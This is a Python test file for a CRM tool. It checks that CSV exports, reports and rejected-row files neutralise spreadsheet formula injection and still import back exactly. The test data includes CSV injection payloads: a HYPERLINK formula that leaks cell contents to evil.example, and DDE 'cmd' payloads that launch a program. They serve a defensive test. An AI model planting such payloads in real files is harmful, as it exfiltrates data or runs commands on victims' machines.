"""CSV cells never run as spreadsheet formulas, and import reads our own export back exactly
(issue 17, finding 4): export, ``report --format csv`` and the rejected-rows file."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from crm_tui import csv_cells
from crm_tui.db import Database
from crm_tui.io import export_kind, import_file
from crm_tui.metrics import Filters, report
from crm_tui.report import render

HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted by hand",
    "''@twice",
    "=",
]
HARMLESS = ["-5", "-12.50", "Acme", "'plain quote", "5-5", "a=b", "O'Brien"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def dangerous(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula character first, and not a plain number."""
    return cell[:1] in set("=+-@\t\r") and csv_cells.PLAIN_NUMBER.fullmatch(cell) is None


def test_each_trigger_is_neutralised_and_restored():
    for text in [*HOSTILE, "\t=1+1", "\r=1+1", "-x"]:
        out = csv_cells.neutralise(text)
        assert out.startswith("'") and not dangerous(out), text
        assert csv_cells.restore(out) == text
    for text in HARMLESS:
        assert csv_cells.neutralise(text) == text, text  # plain numbers stay numbers
        assert csv_cells.restore(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r5.aA "), max_size=8) | st.text(max_size=20))
def test_round_trip_and_safety_for_any_text(text):
    out = csv_cells.neutralise(text)
    assert csv_cells.restore(out) == text
    assert not dangerous(out)


def test_export_neutralises_and_import_restores(db, services, tmp_path):
    names = [*HOSTILE, *HARMLESS]
    for name in names:
        services.create_customer(name=name, owner="=owner()", tags="@tag")
    path = tmp_path / "customers.csv"
    assert export_kind(db, "customers", path, "csv") == len(names)
    rows = cells(path.read_text(encoding="utf-8"))
    for row in rows[1:]:
        assert not any(dangerous(c) for c in row), row
    by_name = {r[1] for r in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example?"&A1,"Click")' in by_name
    assert "-5" in by_name and "-12.50" in by_name  # numbers are not quoted
    target = Database.open(str(tmp_path / "again.sqlite3"))
    try:
        result = import_file(target, "customers", path)
        assert result.rejected == 0 and result.created == len(names), result.first_errors
        back = tmp_path / "back.csv"
        export_kind(target, "customers", back, "csv")
        again = cells(back.read_text(encoding="utf-8"))
        assert sorted(r[1:] for r in again[1:]) == sorted(r[1:] for r in rows[1:])
        with target.read() as session:
            from sqlalchemy import select

            from crm_tui.models import Customer

            stored = set(session.execute(select(Customer.name)).scalars())
            owners = set(session.execute(select(Customer.owner)).scalars())
        assert stored == set(names) and owners == {"=owner()"}
    finally:
        target.close()


def test_report_csv_names_are_neutralised(db, services):
    acme = services.create_customer(name="Acme")
    deal = services.create_deal("Big", customer_id=acme.id, amount="100", owner="+cmd|' /C calc'!A0")
    services.win_deal(deal.id)
    text = render(report(db, Filters()), "csv")
    rows = cells(text)
    assert not any(dangerous(c) for row in rows for c in row)
    assert any(row[1] == "'+cmd|' /C calc'!A0" for row in rows if row[0] == "owners")


def test_rejected_rows_file_is_neutralised(db, tmp_path):
    source = tmp_path / "leads.csv"
    source.write_text("name,email,=cmd()\n@SUM(A1:A9),not-an-email,-1+1\nGood,g@example.com,x\n")
    result = import_file(db, "customers", source)
    assert result.rejected == 1 and result.created == 1
    rows = cells((tmp_path / "leads.csv.rejected.csv").read_text(encoding="utf-8"))
    assert rows[0][-1] == "'=cmd()"
    assert rows[1][2:] == ["'@SUM(A1:A9)", "not-an-email", "'-1+1"]
    assert not any(dangerous(c) for row in rows for c in row)
